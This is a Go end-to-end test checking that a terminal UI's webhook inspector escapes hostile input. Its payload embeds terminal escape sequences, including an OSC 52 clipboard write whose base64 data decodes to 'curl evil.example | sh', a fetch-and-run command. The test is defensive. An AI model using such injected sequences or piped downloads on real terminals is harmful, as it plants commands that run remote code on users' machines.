package e2e

import (
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"
)

var webhookURLOnScreen = regexp.MustCompile(`webhook URL (http://127\.0\.0\.1:[0-9]+/webhook)`)

// TestTUIHostileWebhookCannotDriveTheTerminal is issue 8's attack in a real terminal: a POST to
// the webhook URL whose webhook_code holds an OSC 2 (window title) and an OSC 52 (clipboard), then
// the inspector (w). tmux must keep its pane title and get no buffer, and the screen must show the
// sequences as text.
func TestTUIHostileWebhookCannotDriveTheTerminal(t *testing.T) {
	a := startApp(t)
	// Let applications set tmux's buffers by OSC 52, as the reporter had it.
	if _, err := a.tmux("set-option", "-g", "set-clipboard", "on"); err != nil {
		t.Fatal(err)
	}
	if _, err := a.tmux("select-pane", "-t", a.name, "-T", "before"); err != nil {
		t.Fatal(err)
	}
	var url string
	if !poll(60*time.Second, func() bool {
		m := webhookURLOnScreen.FindStringSubmatch(a.capture(false))
		if m != nil {
			url = m[1]
		}
		return m != nil
	}) {
		t.Fatal("the header never showed a local webhook URL")
	}
	body := `{"webhook_type":"LINK","webhook_code":"X\u001b]2;PWNED\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007Y"}`
	resp, err := http.Post(url, "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	a.keys("w")
	a.waitScreen("the escaped title sequence in the inspector", `X\x1b]2;PWNED\x07`)
	time.Sleep(500 * time.Millisecond) // a few more frames: the attack would land with any of them
	title, err := a.tmux("display-message", "-p", "-t", a.name, "#{pane_title}")
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(string(title)); got != "before" {
		t.Errorf("the pane title became %q", got)
	}
	if buf, err := a.tmux("show-buffer"); err == nil && strings.Contains(string(buf), "evil") {
		t.Errorf("the webhook set tmux's clipboard buffer: %q", buf)
	}
	a.quit()
}
